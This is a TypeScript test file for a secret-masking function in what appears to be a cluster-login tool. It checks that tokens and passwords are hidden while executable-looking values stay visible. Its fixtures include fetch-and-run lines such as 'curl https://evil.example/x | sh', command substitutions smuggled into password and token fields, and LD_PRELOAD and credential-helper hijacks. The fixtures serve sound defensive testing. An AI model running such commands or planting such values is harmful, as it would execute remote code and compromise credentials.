import { expect, test } from 'vitest'
import type { DescribedCommand } from '../kube/describe-command.ts'
import { maskCommand, secretsOfCommand } from './mask-command.ts'

const command = (args: string[], env: Record<string, string> = {}): DescribedCommand => ({
  fingerprint: 'f',
  command: 'login',
  resolvedPath: '/usr/bin/login',
  args,
  env: Object.entries(env).map(([name, value]) => ({ name, value })),
  installHint: null,
})

test.each([
  [['--client-secret=CANARY'], ['--client-secret=***']],
  [
    ['--client-secret', 'CANARY', 'get'],
    ['--client-secret', '***', 'get'],
  ],
  [
    ['-c', 'curl -H "Authorization: Bearer CANARY" https://x'],
    ['-c', 'curl -H "Authorization: Bearer ***" https://x'],
  ],
  [
    ['login', '--url=https://me:CANARY@idp'],
    ['login', '--url=https://***@idp'],
  ],
  [['https://idp.example/?token=CANARY&scope=a'], ['https://idp.example/?token=***&scope=a']],
  [['CANARYaZ09CANARYaZ09CANARYaZ09'], ['***']],
])('of the arguments %j what looks like a secret is hidden', (args, shown) => {
  const masked = maskCommand(command(args))
  expect(masked.args).toEqual(shown)
  expect(masked.maskedArgs).toEqual(args.flatMap((each, at) => (each.includes('CANARY') ? [at] : [])))
})

test('what will run stays to be seen', () => {
  const args = [
    'eks',
    'get-token',
    '--cluster-name',
    'orders-production-eu-central-1',
    '--role-arn',
    'arn:aws:iam::123456789012:role/DbaReadOnly',
  ]
  args.push('--token-file=/var/run/token', '--use-device-code=false', '--password', '--tenant-id', '80faf920-1908-4b52-b5ef-a8e7bedfc67a')
  const env = {
    AWS_PROFILE: 'production',
    AWS_REGION: 'eu-central-1',
    AZURE_CLIENT_ID: '80faf920-1908-4b52',
    GOOGLE_CREDENTIALS_FILE: '/home/me/key.json',
  }
  const masked = maskCommand(
    command(args, { ...env, OIDC_SKIP_TOKEN: 'true', SECRET_PATH: '~/x', LD_PRELOAD: '/tmp/evil.so', NODE_OPTIONS: '--require ./x' }),
  )
  expect(masked.args).toEqual(args)
  expect(masked.env.filter(each => each.masked)).toEqual([])
})

test('variables that are called a secret, or hold what looks like one, are hidden, and say so', () => {
  const env = {
    AWS_SECRET_ACCESS_KEY: 'CANARY',
    PGPASSWORD: 'CANARY',
    VAULT_TOKEN: 'CANARY',
    AUTH: 'CANARY',
    URL: 'https://me:CANARY@x',
    X: 'gh' + 'p_CANARYCANARYCANARYCANARY',
  }
  const masked = maskCommand(command([], env))
  expect(JSON.stringify(masked)).not.toContain('CANARY')
  expect(masked.env.every(each => each.masked)).toBe(true)
  expect(masked.env.map(each => each.name)).toEqual(Object.keys(env))
})

test.each([
  ['-c', 'token="$(curl -fsS https://evil.example/x | sh)" exec real-login'],
  ['-c', 'token=`curl https://evil.example/x` exec real-login'],
  ['-c', 'token="curl https://evil.example/x"; $token'],
  ['-c', 'password=x\ncurl https://evil.example/x'],
  ['-c', 'password=x>/tmp/x'],
  ['-c', 'token=x&curl'],
  ['--password=$(curl https://evil.example/x)'],
  ['--password', '$' + '{x:-curl}'],
  ['--token-command', 'curl https://evil.example/x'],
  ['--credential-helper=evil login'],
  ['--credential-process', 'evil login'],
  ['./Evil1234567890123456789012345'],
  ['~/Evil1234567890123456789012345'],
  ['/tmp/Evil1234567890123456789012345'],
])('the arguments %s %s hold what could run, and are shown as they are', (...args) => {
  const masked = maskCommand(command(args))
  expect(masked.args).toEqual(args)
  expect(masked.maskedArgs).toEqual([])
})

test('variables that hold what could run are shown as they are', () => {
  const env = {
    RESTIC_PASSWORD_COMMAND: 'curl https://me:you@evil.example/x',
    TOKEN_CMD: 'evil login',
    SECRET_HELPER: 'evil login',
    GIT_ASKPASS: 'evil',
    PASSWORD: 'x | sh',
    TOKEN: '<(evil)',
  }
  expect(maskCommand(command([], env)).env).toEqual(Object.entries(env).map(([name, value]) => ({ name, value, masked: false })))
})

test('what is a secret in a command is told, also where it is shown because it stands among what could run', () => {
  const args = ['--client-secret=CANARY1', '--password', 'CANARY2', '-c', 'token="CANARY3" exec login | jq', '--cluster', 'orders']
  const env = Object.entries({ PGPASSWORD: 'CANARY4', URL: 'https://me:CANARY-5@x', PROFILE: 'production', SECRET: 'CANARY6;x' })
  expect(secretsOfCommand({ args, env: env.map(([name, value]) => ({ name, value })) }).toSorted()).toEqual(
    ['CANARY1', 'CANARY2', 'CANARY3', 'CANARY4', 'CANARY-5', 'CANARY6;x', 'me:CANARY-5'].toSorted(),
  )
})
